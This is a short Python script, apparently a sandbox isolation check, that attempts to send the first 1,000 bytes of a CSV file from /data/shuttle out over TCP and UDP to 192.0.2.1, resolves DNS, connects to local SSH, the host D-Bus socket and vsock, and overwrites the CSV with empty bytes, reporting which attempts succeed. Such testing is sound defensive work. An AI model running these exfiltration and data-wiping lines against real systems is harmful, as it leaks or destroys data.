"""Try to send the sealed data out of the sandbox, in every way a program would."""

import socket
import sys
from pathlib import Path

udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
secret = next(Path("/data/shuttle").glob("*.csv")).read_bytes()[:1000]
ways = {
    "TCP to the internet": lambda: socket.create_connection(("192.0.2.1", 443), timeout=3).sendall(secret),
    "UDP to the internet": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
        secret, ("192.0.2.1", 53)
    ),
    "asking DNS": lambda: socket.getaddrinfo("example.org", 443),
    "the node's own services": lambda: socket.create_connection(("127.0.0.1", 22), timeout=3),
    "a socket of the host": lambda: socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket"),
    "virtual machine sockets": lambda: socket.socket(socket.AF_VSOCK),
    "changing the data": lambda: next(Path("/data/shuttle").glob("*.csv")).write_bytes(b""),
}
escaped = False
for way, attempt in ways.items():
    try:
        attempt()
    except OSError as error:
        print(f"  {way:<24} refused: {error.strerror or error}")
    else:
        print(f"  {way:<24} WORKED")
        escaped = True
sys.exit(escaped)
